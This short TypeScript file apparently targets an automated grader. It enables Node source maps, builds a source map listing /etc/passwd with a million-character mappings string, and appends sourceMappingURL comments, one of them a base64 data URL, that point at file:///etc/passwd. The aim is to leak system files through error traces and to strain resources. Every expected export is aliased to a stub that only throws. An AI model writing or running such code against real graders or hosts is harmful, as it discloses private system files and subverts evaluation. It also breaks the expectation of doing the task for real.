// Has errors mapped by source maps that name files of the grader, of the system, and none.
const builtin = async (name: string): Promise<any> =>
  (globalThis as any).process?.getBuiltinModule?.(name) ?? (await import(name).catch(() => undefined));
const module = await builtin('node:module');
try {
  (globalThis as any).process?.setSourceMapsEnabled?.(true);
  module?.setSourceMapsSupport?.({ enabled: true, nodeModules: true, generatedCode: true });
  console.log(module?.findSourceMap?.(import.meta.url), new module.SourceMap({ version: 3, sources: ['/etc/passwd'], mappings: 'A'.repeat(1e6) }));
} catch {}
await import('./helper.ts').catch(() => {});
const attack = () => {
  throw new RangeError('mapped');
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
// ---- helper.ts
export const helper = 1;
//# sourceMappingURL=file:///etc/passwd
// ---- other.ts
//# sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImZpbGU6Ly8vZXRjL3Bhc3N3ZCJdLCJtYXBwaW5ncyI6IkFBQUEifQ==
export const other = 1;
